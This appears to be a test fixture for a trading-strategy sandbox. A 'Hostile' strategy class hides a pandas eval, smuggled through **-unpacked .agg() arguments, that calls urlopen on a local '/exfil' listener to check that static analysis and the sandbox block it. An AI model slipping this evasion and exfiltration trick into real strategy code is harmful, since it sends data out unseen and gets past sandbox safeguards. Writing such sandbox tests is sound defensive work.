# expect: static: **-unpacked arguments to .agg() are not allowed
# kernel: sandbox: was killed by the sandbox: it attempted a forbidden system call
# hostile: connection
# eval reaches pandas' urlopen: the network (here a listener on 127.0.0.1).
import numpy as np
import pandas as pd

from blofin_pipeline.strategies import Strategy


class Hostile(Strategy):
    name = "hostile_urlopen"
    category = "trend"
    params = {"window": 10}
    param_space = {"window": (2, 100)}

    def generate_signals(self, candles: pd.DataFrame) -> pd.Series:
        candles.agg(**{"func": "eval", "expr": "@m.io.common.urlopen(@u)",
                       "local_dict": {"m": pd, "u": "http://127.0.0.1:{{PORT}}/exfil"},
                       "engine": "python"})
        return np.sign(candles["close"].diff()).fillna(0.0)
